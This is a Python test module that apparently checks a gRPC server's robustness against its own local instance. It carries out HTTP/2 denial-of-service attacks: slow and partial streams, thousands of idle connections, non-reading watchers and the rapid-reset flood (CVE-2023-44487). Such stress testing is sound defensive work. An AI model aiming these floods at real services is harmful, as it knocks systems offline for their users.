"""Streams and connections that stay open: no message comes, nobody reads the response, or nothing happens at all."""

import resource
import socket
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack, suppress

from artemis.v1 import events_pb2
from grpc_health.v1 import health_pb2

from tests.benchmarks.load import (
    DATA,
    DEFAULT_WINDOW,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MAX_FRAME,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
)
from tests.robustness.peer import CHECK, CONTINUATION, CREATE, GET, WATCH, Peer, block, data, message
from tests.robustness.requests import field
from tests.robustness.victim import Victim
from tests.robustness.work import SLOW, store_long_texts

GET_ONE = b"\x08\x01"
LARGEST = 4_000_000
"""Bytes of a message that the server still takes."""
PADDING = 15
"""A number that no field of a request has."""
NAME = 2 * 2**20
"""Bytes of the longest name that is watched."""
LIST = "/artemis.v1.EventService/ListEvents"
REFUSED = {"8"}
"""RESOURCE_EXHAUSTED."""


def headers_only(count: int) -> Callable[[Victim], None]:
    """Returns an attack: streams on one connection that send their headers and no message."""

    def attack(victim: Victim) -> None:
        with Peer(victim.port) as peer:
            for number in range(count):
                peer.send(peer.head((GET, CREATE, LIST)[number % 3])[1])
            time.sleep(victim.seconds)
            victim.note(ended=dict(peer.codes()))

    return attack


def headers_only_on_connections(victim: Victim) -> None:
    """Sends headers and no message on each of 500 connections."""
    with ExitStack() as stack:
        for _ in range(victim.size(500)):
            peer = stack.enter_context(Peer(victim.port, reads=False))
            peer.send(peer.head(GET)[1])
        time.sleep(victim.seconds)


def half_a_message(victim: Victim) -> None:
    """Sends half of a message on each of 500 streams, then nothing."""
    with Peer(victim.port) as peer:
        for _ in range(victim.size(500)):
            stream, head = peer.head(CREATE)
            peer.send(head + b"".join(data(stream, message(b"x" * 1000)[:500], end=False)))
        time.sleep(victim.seconds)
        victim.note(ended=dict(peer.codes()))


def slow_body(victim: Victim) -> None:
    """Sends messages byte by byte on each of 200 streams."""
    with Peer(victim.port) as peer:
        streams = []
        for _ in range(victim.size(200)):
            stream, head = peer.head(CREATE)
            peer.send(head)
            streams.append(stream)
        body, end = message(b"x" * 100_000), time.monotonic() + victim.seconds
        for byte in body:
            if not peer.send(
                b"".join(frame(0, 0, stream, bytes([byte])) for stream in streams if stream in peer.begun)
            ):
                break
            if time.monotonic() > end:
                break
            time.sleep(0.1)
        victim.note(ended=dict(peer.codes()))


def large_halves(victim: Victim) -> None:
    """Sends 4 MB but for the last byte on each of 500 streams: 2 GB, if the server takes them."""
    with ExitStack() as stack:
        body = message(b"x" * 4_000_000)[:-1]
        for _ in range(victim.size(10)):
            peer = stack.enter_context(Peer(victim.port))
            for _ in range(50):
                stream, head = peer.head(CREATE)
                if not peer.send(head + frame(8, 0, 0, b"\0\0\xff\xff")) or victim.killed.is_set():
                    break
                peer.socket.settimeout(0.3)
                if not peer.send(b"".join(data(stream, body, end=False))):
                    break
        time.sleep(victim.seconds)


def patient_halves(victim: Victim) -> None:
    """Does the same on 10 connections at the pace that the server's windows allow."""
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port)) for _ in range(victim.size(10))]
        _send_patiently(victim, peers, 100, CREATE, message(bytes(LARGEST))[:-1], end=False)


def padded_gets(victim: Victim) -> None:
    """Gets with an unknown field of 4 MB in each of 200 requests, and reads no answer."""
    request = b"\x08\x01" + field(PADDING, bytes(LARGEST))
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port, window=0)) for _ in range(4)]
        _send_patiently(victim, peers, victim.size(50), GET, message(request))


def padded_lists(victim: Victim) -> None:
    """Lists slowly with an unknown field of 4 MB in each of 64 requests: most of them wait for a thread."""
    store_long_texts(victim, victim.size(400))
    slow = events_pb2.ListEventsRequest(filter=SLOW, page_size=1).SerializeToString()
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port)) for _ in range(4)]
        _send_patiently(victim, peers, 16, LIST, message(slow + field(PADDING, bytes(LARGEST))))
        codes = sum((peer.codes() for peer in peers), start=Counter[str]())
        victim.note(codes=dict(codes))
        victim.expect(set(codes) <= {"0", "4", *REFUSED}, f"lists ended with {dict(codes)}")


def _send_patiently(
    victim: Victim, peers: list[Peer], streams: int, path: str, payload: bytes, *, end: bool = True
) -> None:
    """Opens streams on each connection and sends a payload on each stream, as fast as the server's windows allow."""
    sent: list[Counter[int]] = [Counter() for _ in peers]
    for peer in peers:
        for _ in range(streams):
            peer.send(peer.head(path)[1])
    until = time.monotonic() + victim.seconds + 5 * victim.share
    while time.monotonic() < until and not victim.killed.is_set():
        moved = False
        for peer, bytes_sent in zip(peers, sent, strict=True):
            for stream in list(peer.begun):
                begin = bytes_sent[stream]
                size = min(len(payload), peer.initial_window + peer.widened[stream]) - begin
                size = min(size, DEFAULT_WINDOW + peer.widened[0] - bytes_sent.total(), MAX_FRAME)
                flags = END_STREAM if end and begin + size == len(payload) else 0
                if size > 0 and peer.send(frame(DATA, flags, stream, payload[begin : begin + size])):
                    bytes_sent[stream] += size
                    moved = True
        if not moved:
            time.sleep(0.05)
    victim.note(sent=f"{sum(each.total() for each in sent) / 2**20:.0f} MiB")


def slow_headers(victim: Victim) -> None:
    """Sends the headers of a call byte by byte, as CONTINUATION frames, on each of 50 connections."""
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port)) for _ in range(victim.size(50))]
        first, rest = block(GET)[:1], block(GET)[1:]
        for peer in peers:
            peer.send(frame(HEADERS, 0, 1, first))
        end = time.monotonic() + victim.seconds
        for byte in rest:
            for peer in peers:
                peer.send(frame(CONTINUATION, 0, 1, bytes([byte])))
            if time.monotonic() > end:
                break
            time.sleep(0.05)


def no_preface(victim: Victim) -> None:
    """Opens 2,000 connections that send nothing at all."""
    _idle(victim, b"")


def idle(victim: Victim) -> None:
    """Opens 5,000 connections that send the preface and nothing more."""
    _idle(victim, PREFACE + frame(SETTINGS, 0, 0), 5_000)


def idle_with_few_descriptors(victim: Victim) -> None:
    """Opens 2,000 connections to a server that may have 1,024 descriptors, which is a common limit."""
    resource.prlimit(victim.server.process.pid, resource.RLIMIT_NOFILE, (1024, 1024))
    _idle(victim, PREFACE + frame(SETTINGS, 0, 0))


def _idle(victim: Victim, first: bytes, count: int = 2_000) -> None:
    opened = []
    try:
        for _ in range(victim.size(count)):
            with suppress(OSError):
                connection = socket.create_connection(("127.0.0.1", victim.port), timeout=2)
                opened.append(connection)
                connection.sendall(first)
        victim.note(connections=len(opened))
        time.sleep(victim.seconds)
    finally:
        for each in opened:
            each.close()


def watchers_that_do_not_read(victim: Victim) -> None:
    """Watches the health on 50 connections that accept no byte of a response."""
    request = health_pb2.HealthCheckRequest().SerializeToString()
    with ExitStack() as stack:
        for _ in range(victim.size(50)):
            stack.enter_context(Peer(victim.port, window=0)).call(WATCH, request)
        time.sleep(victim.seconds)
        with Peer(victim.port) as other:  # somebody else's watch must still be answered
            other.call(WATCH, request)
            end = time.monotonic() + 5
            while not other.frames[0] and time.monotonic() < end:
                time.sleep(0.01)
            victim.expect(other.frames[0] > 0, "a watch that reads got no status within 5 s")


def malformed_watches(victim: Victim) -> None:
    """Watches and checks the health with bytes that are no message, 200 times: each is answered with an error."""
    count = victim.size(200)
    with Peer(victim.port) as peer:
        for number in range(count):
            peer.call((WATCH, CHECK)[number % 2], b"\xff")
            peer.wait(number - 50, 5)
        peer.wait(count, 10)
        codes = peer.codes()
    victim.note(codes=dict(codes))
    victim.expect("0" not in codes, "bytes that are no message were answered with a status")
    victim.expect(codes.total() == count, f"{count - codes.total()} calls were not answered")


def watched_names(count: int, size: int) -> Callable[[Victim], None]:
    """Returns an attack: watches of unknown services with long names, which stay."""

    def attack(victim: Victim) -> None:
        with Peer(victim.port) as peer:
            for number in range(victim.size(count)):
                name = f"{number:08}" + "n" * (size - 8)
                peer.call(WATCH, health_pb2.HealthCheckRequest(service=name).SerializeToString())
            time.sleep(victim.seconds / 2)
            victim.note(ended=dict(peer.codes()))

    return attack


def watch_and_leave(victim: Victim) -> None:
    """Watches names of 2 MiB and leaves, 200 times: nothing may be kept, so what remains is what counts."""
    before = victim.read().rss
    for number in range(victim.size(200)):
        with Peer(victim.port) as peer:
            name = f"{number:08}" + "n" * (NAME - 8)
            stream = peer.call(WATCH, health_pb2.HealthCheckRequest(service=name).SerializeToString())
            end = time.monotonic() + 1
            while not peer.frames[0] and not peer.outcomes and time.monotonic() < end:
                time.sleep(0.001)
            peer.send(frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
    grown = victim.read().rss - before
    victim.note(kept=f"{grown:.0f} MiB")
    victim.expect(grown < 60, f"{grown:.0f} MiB remain")


def many_watchers(victim: Victim) -> None:
    """Watches the health 10,000 times on ten connections."""
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port)) for _ in range(10)]
        for peer in peers:
            for _ in range(victim.size(1_000)):
                peer.call(WATCH, b"")
        time.sleep(victim.seconds)
        victim.note(ended=dict(sum((peer.codes() for peer in peers), start=peers[0].codes() - peers[0].codes())))


def in_flight(count: int) -> Callable[[Victim], None]:
    """Returns an attack: so many calls at once, over four connections; each is answered, with OK or to be repeated."""

    def attack(victim: Victim) -> None:
        with ExitStack() as stack:
            peers = [stack.enter_context(Peer(victim.port)) for _ in range(4)]
            calls = victim.size(count) // 4
            for peer in peers:  # as clients do; gRPC takes 100 streams before, and ends more with ENHANCE_YOUR_CALM
                victim.expect(peer.acknowledged.wait(20), "the server sent no SETTINGS")
            for _ in range(calls):
                for peer in peers:
                    peer.call(GET, GET_ONE)
            for peer in peers:
                peer.wait(calls, 20)
            codes = sum((peer.codes() for peer in peers[1:]), start=peers[0].codes())
            victim.note(codes=dict(codes))
            victim.expect(codes.total() == 4 * calls, f"{4 * calls - codes.total()} calls were not answered")
            # a refused stream (RST 7) is UNAVAILABLE to a client and may be repeated
            wrong = {code: number for code, number in codes.items() if code not in {"0", "5", "8", "14", "RST 7"}}
            victim.expect(not wrong, f"calls ended with {wrong}")

    return attack


def rapid_resets(victim: Victim) -> None:
    """Opens calls and resets them at once, as fast as one connection can (CVE-2023-44487)."""
    with Peer(victim.port) as peer:
        head, end, sent = block(GET), time.monotonic() + victim.seconds, 0
        reset = (8).to_bytes(4, "big")
        while time.monotonic() < end:
            burst = b""
            for _ in range(100):
                stream, peer.next_stream = peer.next_stream, peer.next_stream + 2
                burst += frame(HEADERS, END_HEADERS, stream, head) + b"".join(data(stream, message(GET_ONE)))
                burst += frame(RST_STREAM, 0, stream, reset)
            if not peer.send(burst):
                break
            sent += 100
        victim.note(resets=sent, closed=peer.closed.is_set())


def rapid_resets_of_creates(victim: Victim) -> None:
    """Opens creates on four connections and resets each as soon as it is sent."""
    with ExitStack() as stack:
        peers = [stack.enter_context(Peer(victim.port)) for _ in range(4)]
        reset, end, sent = (8).to_bytes(4, "big"), time.monotonic() + victim.seconds, 0
        while time.monotonic() < end and not all(peer.closed.is_set() for peer in peers):
            for peer in peers:
                for _ in range(20):
                    stream = peer.call(CREATE, b"\x0a\x00")
                    peer.send(frame(RST_STREAM, 0, stream, reset))
                    sent += 1
        victim.note(resets=sent)


def unread_streams(victim: Victim) -> None:
    """Makes 30,000 calls on one connection and lets the server send no byte of a response."""
    with Peer(victim.port, window=0) as peer:
        for _ in range(victim.size(30_000)):
            peer.call(GET, GET_ONE)
            if peer.closed.is_set() or victim.killed.is_set():
                break
        time.sleep(victim.seconds / 2)
        victim.note(ended=dict(peer.codes().most_common(3)), closed=peer.closed.is_set())


def unread_pages(victim: Victim) -> None:
    """Asks for 2,000 large pages and reads none: the socket's buffers are full and the windows open."""
    store_long_texts(victim, victim.size(300))
    with ExitStack() as stack:
        for _ in range(4):
            peer = stack.enter_context(Peer(victim.port, reads=False))
            peer.socket.settimeout(0.5)
            for _ in range(victim.size(500)):
                if not peer.send(b"") or victim.killed.is_set():
                    break
                peer.call(LIST, b"\x08\xe8\x07")
        time.sleep(victim.seconds)
